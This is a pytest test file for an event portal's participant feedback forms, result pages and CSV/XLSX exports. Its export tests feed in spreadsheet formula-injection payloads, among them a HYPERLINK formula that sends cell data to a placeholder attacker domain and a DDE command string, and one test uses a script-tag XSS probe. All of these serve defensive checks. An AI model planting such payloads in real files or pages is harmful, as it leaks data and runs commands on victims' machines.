"""Participants answer five questions; organisers read numbers and words."""

import csv
import io
import re
from collections import Counter
from datetime import timedelta

import openpyxl
import pytest

from portal.core import clock
from portal.domain.feedback import charts
from portal.domain.feedback.models import SealedAnswer
from portal.domain.feedback.queries import Tally
from portal.domain.registrations import actions as registrations
from portal.domain.registrations.queries import Pass
from portal.domain.registrations.rules import FEEDBACK_CLOSES_AFTER
from tests.factories import make_event, make_organization, make_person, pass_key, sign_up_guest
from tests.feedback.feedback_forms import answer, count, results
from tests.forms import feedback_fields
from tests.pages import errors_of, figures_of, page_of, value_of, words


def test_five_questions_are_answered_from_the_pass(client, finished, database):
    _slug, (key,) = finished(1)
    assert "Give feedback" in words(client.get(f"/en/passes/{key}"))
    form = client.get(f"/en/passes/{key}/feedback")
    asked = set(page_of(form).xpath("//main//form//@name"))
    assert asked == {"rating", "recommend", "good", "improve", "quote"}
    given = answer(client, key, good="Күй", improve="Уақыт", quote="yes")
    assert given.headers["location"] == f"/en/passes/{key}/feedback/thanks"
    assert client.get(given.headers["location"]).status_code == 200
    assert "You have given your feedback" in words(client.get(f"/en/passes/{key}"))
    assert count(database, SealedAnswer) == 1


def test_two_numbers_and_the_word_about_quoting_are_enough(client, finished):
    _slug, (key,) = finished(1)
    answered = client.post(
        f"/kk/passes/{key}/feedback", data={"rating": "1", "recommend": "0", "quote": "no"}
    )
    assert answered.status_code == 303


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"rating": ""}, "rating"),
        ({"rating": "0"}, "rating"),
        ({"rating": "6"}, "rating"),
        ({"rating": "good"}, "rating"),
        ({"recommend": "11"}, "recommend"),
        ({"recommend": "-1"}, "recommend"),
        ({"quote": "perhaps"}, "quote"),
        ({"good": "Ә" * 2_001}, "good"),
        ({"improve": "bell\a"}, "improve"),
    ],
)
def test_an_answer_outside_the_form_is_refused_and_kept_in_it(
    client, finished, database, changes, field
):
    _slug, (key,) = finished(1)
    refused = answer(client, key, **({"good": "Күй"} | changes))
    assert refused.status_code == 422
    assert list(errors_of(refused)) == [field]
    if field != "good":
        assert value_of(refused, "good") == "Күй"
    assert count(database, SealedAnswer) == 0
    assert answer(client, key).status_code == 303


def test_one_answer_a_person(client, finished, database):
    _slug, (key,) = finished(1)
    answer(client, key)
    again = answer(client, key, rating="1")
    assert again.status_code == 409
    assert "You have already answered" in words(again)
    assert client.get(f"/en/passes/{key}/feedback").status_code == 409
    assert count(database, SealedAnswer) == 1


def test_feedback_is_open_from_the_end_for_a_fortnight(client, finished, database):
    for ended, is_open in (
        (timedelta(hours=-1), False),
        (timedelta(minutes=1), True),
        (FEEDBACK_CLOSES_AFTER - timedelta(minutes=1), True),
        (FEEDBACK_CLOSES_AFTER + timedelta(minutes=1), False),
    ):
        _slug, (key,) = finished(1, ended=ended)
        assert client.get(f"/en/passes/{key}/feedback").status_code == (200 if is_open else 409)
        assert answer(client, key).status_code == (303 if is_open else 409)
    assert count(database, SealedAnswer) == 2


def test_who_had_no_place_gives_no_feedback(client, database, analyst):
    with database.writing() as db:
        ended = clock.now() - timedelta(hours=3)
        event = make_event(db, make_organization(db), starts_at=ended, capacity=2)
        gone = sign_up_guest(db, event)
        registrations.cancel(db, Pass(gone, event), event.starts_at - timedelta(hours=29))
        sign_up_guest(db, event)
        unproved = sign_up_guest(db, event, confirmed=False)
        waiting = sign_up_guest(db, event)
        keys = [pass_key(db, each, event) for each in (gone, unproved, waiting)]
    assert [answer(client, key).status_code for key in keys] == [409, 409, 409]


FORMULAS = (
    *('=HYPERLINK("https://evil.example?"&A1)', "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "＝1+1"),
    *("=cmd|' /C calc'!A0", "{=1+1}", "https://evil.example", "mailto:a@evil.example"),
)


def test_an_index_below_nought_has_a_minus_sign(client, browser_of, finished, analyst, pour):
    slug, keys = finished(5)
    for key, chosen in zip(keys, ("0", "3", "6", "7", "9"), strict=True):
        answer(client, key, recommend=chosen)
    assert pour() == 1
    shown = results(browser_of(analyst), slug)
    assert figures_of(shown)["recommendation index, −100 to 100"] == "−40"


def test_numbers_count_whoever_chose_them():
    tally = Tally(Counter({5: 3, 1: 2}), Counter({7: 1, 6: 1, 9: 2, 8: 1}))
    assert tally.answers == 5
    assert charts.mean_rating(tally) == 3.4
    assert charts.recommendation_index(tally) == 20


def test_many_texts_are_read_page_by_page(client, browser_of, finished, analyst, pour, monkeypatch):
    monkeypatch.setattr("portal.web.feedback.report.ON_A_PAGE", 2)
    slug, keys = finished(5)
    for number, key in enumerate(keys):
        improve = f"Уақыт {number}" if number < 3 else ""
        answer(client, key, good=f"Сөз {number}", improve=improve)
    pour()
    browser, path, read = browser_of(analyst), f"/en/manage/events/{slug}/results", []
    for number in (1, 2, 3):
        shown = browser.get(path)
        page = page_of(shown)
        read += re.findall(r"Сөз \d|Уақыт \d", words(shown))
        assert bool(page.xpath("//section[@aria-labelledby='charts']")) is (number == 1)
        onward = page.xpath("//nav//a[@rel='next']/@href")
        assert bool(onward) is (number < 3)
        path = onward[0] if onward else f"{path[: path.index('?')]}?page={number + 1}"
    assert "What to improve" not in words(shown)
    assert sorted(read) == [*(f"Сөз {n}" for n in range(5)), *(f"Уақыт {n}" for n in range(3))]
    assert browser.get(path).status_code == 404


def test_texts_are_shown_as_written_in_their_language_and_inert(
    client, browser_of, finished, analyst, pour
):
    slug, keys = finished(5)
    evil = "<script>alert(1)</script> **bold** https://evil.example"
    for key in keys:
        client.post(f"/kk/passes/{key}/feedback", data=feedback_fields(good=evil, quote="yes"))
    pour()
    shown = results(browser_of(analyst), slug)
    assert "<script>alert" not in shown.text
    assert evil in words(shown)
    assert not page_of(shown).xpath("//main//a[contains(@href, 'evil')]")
    assert page_of(shown).xpath("//main//*[@lang='kk'][contains(., 'bold')]")


def test_charts_have_a_table_beside_each(client, browser_of, finished, analyst, pour):
    slug, keys = finished(5)
    for number, key in enumerate(keys):
        answer(client, key, rating="5", recommend=str(number + 6))
    pour()
    page = page_of(results(browser_of(analyst), slug))
    captions = [" ".join(c.text_content().split()) for c in page.xpath("//main//table/caption")]
    assert captions == ["Overall rating", "Would recommend it"]
    ratings, recommendations = page.xpath("//main//table")
    assert len(ratings.xpath(".//tbody/tr")) == 5
    assert len(recommendations.xpath(".//tbody/tr")) == 11
    assert "100" in " ".join(ratings.xpath(".//tbody/tr")[0].text_content().split())


@pytest.fixture
def answered_with_formulas(client, finished, pour):
    """A finished event whose every text wants to be a formula."""
    slug, keys = finished(len(FORMULAS))
    for key, formula in zip(keys, FORMULAS, strict=True):
        answer(client, key, good=formula, improve='тыныш, жайлы;\n"күй"')
    pour()
    return slug


def test_answers_as_csv_are_read_rightly_and_run_nothing(
    browser_of, analyst, answered_with_formulas
):
    path = f"/en/manage/events/{answered_with_formulas}/answers.csv"
    file = browser_of(analyst).get(path)
    assert file.content.startswith(b"\xef\xbb\xbf")
    assert "attachment" in file.headers["content-disposition"]
    assert file.headers["cache-control"] == "no-store"
    header, *rows = csv.reader(io.StringIO(file.content.decode("utf-8-sig"), newline=""))
    assert header[0] == "Overall rating"
    assert len(rows) == len(FORMULAS)
    for row in rows:
        assert row[3] == 'тыныш, жайлы;\n"күй"'
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
    assert {row[2].removeprefix("'").strip() for row in rows} == {f.strip() for f in FORMULAS}


def test_answers_as_a_workbook_hold_text_and_no_formula(
    browser_of, analyst, answered_with_formulas
):
    path = f"/en/manage/events/{answered_with_formulas}/answers.xlsx"
    file = browser_of(analyst).get(path)
    book = openpyxl.load_workbook(io.BytesIO(file.content))
    (sheet,) = book.worksheets
    assert sheet.max_row == 1 + len(FORMULAS)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type in {"s", "n"}
            assert cell.hyperlink is None
    assert {sheet.cell(n, 3).value.strip() for n in range(2, sheet.max_row + 1)} == {
        formula.strip() for formula in FORMULAS
    }
    assert isinstance(sheet.cell(2, 1).value, int)


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_lists_of_participants_hold_names_states_and_no_address(client, browser_of, database, form):
    with database.writing() as db:
        editor = make_person(db)
        event = make_event(db, make_organization(db, editor=editor), capacity=2)
        sign_up_guest(db, event, name="=1+1", email="secret@example.org")
        sign_up_guest(db, event, name="Айгүл", confirmed=False)
        sign_up_guest(db, event, name="@SUM", email="other@example.org")
        slug = event.slug
    file = browser_of(editor).post(f"/en/manage/events/{slug}/participants.{form}")
    assert file.status_code == 200
    if form == "csv":
        text_of_file = file.content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text_of_file, newline="")))[1:]
        assert [row[0] for row in rows] == ["'=1+1", "Айгүл", "'@SUM"]
    else:
        (sheet,) = openpyxl.load_workbook(io.BytesIO(file.content)).worksheets
        rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
        assert [row[0] for row in rows] == ["=1+1", "Айгүл", "@SUM"]
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
        text_of_file = repr(rows)
    assert [row[1] for row in rows] == [
        "Confirmed",
        "Held until the address is proved",
        "Waiting list",
    ]
    assert "example.org" not in text_of_file


def test_organisers_see_numbers_by_state_and_attendance(client, browser_of, database):
    with database.writing() as db:
        owner = make_person(db)
        starts_at = clock.now() - timedelta(minutes=5)
        event = make_event(db, make_organization(db, owner=owner), capacity=3, starts_at=starts_at)
        here, gone, _held = (
            sign_up_guest(db, event),
            sign_up_guest(db, event),
            sign_up_guest(db, event, confirmed=False, now=clock.now()),
        )
        sign_up_guest(db, event)
        keys = [pass_key(db, each, event) for each in (here, gone)]
        slug = event.slug
    client.post(f"/en/passes/{keys[0]}/attendance")
    client.post(f"/en/passes/{keys[1]}/cancellation")
    assert figures_of(browser_of(owner).get(f"/en/manage/events/{slug}")) == {
        "confirmed": "2",
        "held, address not proved yet": "1",
        "on the waiting list": "0",
        "gave their place back": "1",
        "opened the room": "1",
        "letters undelivered": "0",
    }
